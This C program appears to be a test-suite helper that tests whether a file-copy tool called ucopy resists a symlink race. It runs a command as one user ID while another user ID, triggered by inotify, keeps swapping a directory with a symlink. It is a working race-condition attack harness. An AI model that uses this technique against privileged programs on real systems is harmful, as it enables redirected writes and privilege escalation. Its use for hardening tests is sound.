/* attack: lets a command write into a directory that an attacker exchanges with a symlink.
 *
 *     attack VICTIM ATTACKER DIR LINK COMMAND [ARG]...
 *
 * Runs COMMAND as the user id VICTIM. From the moment a temporary of ucopy shows up in DIR
 * until the command ends, the user id ATTACKER exchanges the names DIR and LINK as fast as it
 * can, and leaves them as they were. Prints how often; exits with the command's status. */
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/wait.h>
#include <unistd.h>

static void die(const char *what)
{
    perror(what);
    exit(99);
}

static void become(const char *id)
{
    uid_t uid = (uid_t)strtoul(id, NULL, 10);

    if (setgid(uid) < 0 || setuid(uid) < 0)
        die("setuid");
}

/* Whether a temporary has come into being. */
static int has_temporary(int watch)
{
    char buffer[4096] __attribute__((aligned(8)));
    ssize_t n = read(watch, buffer, sizeof(buffer));

    for (ssize_t at = 0; at < n;) {
        const struct inotify_event *event = (const void *)(buffer + at);

        if (event->len > 0 && strncmp(event->name, ".ucopy-", 7) == 0)
            return 1;
        at += (ssize_t)(sizeof(*event) + event->len);
    }
    return 0;
}

int main(int argc, char **argv)
{
    int watch = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
    int status = 0, begun = 0;
    unsigned long times = 0;
    pid_t pid;

    if (argc < 6) {
        fprintf(stderr, "usage: attack VICTIM ATTACKER DIR LINK COMMAND [ARG]...\n");
        return 99;
    }
    if (watch < 0 || inotify_add_watch(watch, argv[3], IN_CREATE) < 0)
        die("inotify");
    pid = fork();
    if (pid < 0)
        die("fork");
    if (pid == 0) {
        become(argv[1]);
        execv(argv[5], argv + 5);
        die(argv[5]);
    }
    /* Still the parent, which waits. */
    if (setegid((gid_t)strtoul(argv[2], NULL, 10)) < 0 ||
        seteuid((uid_t)strtoul(argv[2], NULL, 10)) < 0)
        die("seteuid");
    while (waitpid(pid, &status, WNOHANG) == 0) {
        struct pollfd p = {.fd = watch, .events = POLLIN};

        if (!begun && poll(&p, 1, 1) > 0)
            begun = has_temporary(watch);
        if (!begun)
            continue;
        if (renameat2(AT_FDCWD, argv[3], AT_FDCWD, argv[4], RENAME_EXCHANGE) < 0)
            die("exchange");
        times++;
        usleep(20); /* the victim needs the directory, too */
    }
    if (times % 2 && renameat2(AT_FDCWD, argv[3], AT_FDCWD, argv[4], RENAME_EXCHANGE) < 0)
        die("exchange");
    /* LeakSanitizer traces the process at its end, which a mixture of user ids may not. */
    if (seteuid(getuid()) < 0)
        die("seteuid");
    printf("%lu\n", times);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 99;
}
